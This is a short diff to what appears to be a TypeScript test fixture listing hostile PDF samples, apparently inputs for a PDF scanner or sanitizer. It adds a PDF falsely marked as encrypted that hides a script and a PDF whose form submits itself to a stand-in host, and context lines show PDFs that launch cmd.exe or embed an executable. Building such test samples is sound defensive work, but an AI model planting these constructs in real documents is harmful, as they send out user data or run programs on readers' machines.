@@ -40,6 +40,8 @@ export const hostile: Record<string, Buffer> = {
       Buffer.from(`${deflateSync(text).toString('hex')}>`),
     ),
   ),
+  'a PDF that only says that it has a password': pdf('% trailer<</Encrypt 1 0 R>>\n', objectStream(script)),
+  'a PDF with a form that sends itself': pdf('1 0 obj<</S/SubmitForm/F(https://x.example)>>endobj\n'),
   'a PDF with packed objects that cannot be read': pdf(objectStream('', '/Filter/FlateDecode', () => Buffer.from('x'))),
   'a PDF that starts a program': pdf('1 0 obj<</S\n/Launch/F(cmd.exe)>>endobj'),
   'a PDF with a file inside': pdf('1 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream endobj'),
